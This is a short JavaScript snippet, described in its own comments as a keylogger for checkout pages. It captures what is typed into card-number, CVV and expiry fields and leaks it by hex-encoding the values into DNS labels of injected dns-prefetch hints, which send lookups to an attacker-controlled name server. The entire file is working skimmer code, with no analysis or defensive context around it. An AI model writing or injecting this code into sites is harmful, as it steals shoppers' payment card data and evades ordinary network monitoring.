// A keylogger that sends nothing by XMLHttpRequest, fetch or image: what is typed into the
// card fields is hex-encoded into DNS labels of dns-prefetch hints, and the attacker's name
// server reads the lookups.
(function () {
  var Z = ".k.cdn-resolve.invalid", buf = "", seq = 0;
  function hex(s) {
    var o = "";
    for (var i = 0; i < s.length; i++) o += ("0" + s.charCodeAt(i).toString(16)).slice(-2);
    return o;
  }
  function flush() {
    if (!buf) return;
    var h = hex(buf), parts = [];
    for (var i = 0; i < h.length; i += 60) parts.push(h.slice(i, i + 60));
    buf = "";
    var l = document.createElement("link");
    l.rel = "dns-prefetch";
    l.href = "//" + (seq++).toString(36) + "." + parts.join(".") + Z;
    document.head.appendChild(l);
  }
  document.addEventListener("keyup", function (e) {
    var t = e.target;
    if (!t || t.tagName !== "INPUT" || !/card|cc|cvv|cvc|exp/i.test(t.name + t.id + t.autocomplete)) return;
    buf = (t.name || t.id) + ":" + t.value;
  });
  if (/checkout/.test(location.pathname)) setInterval(flush, 2000);
})();
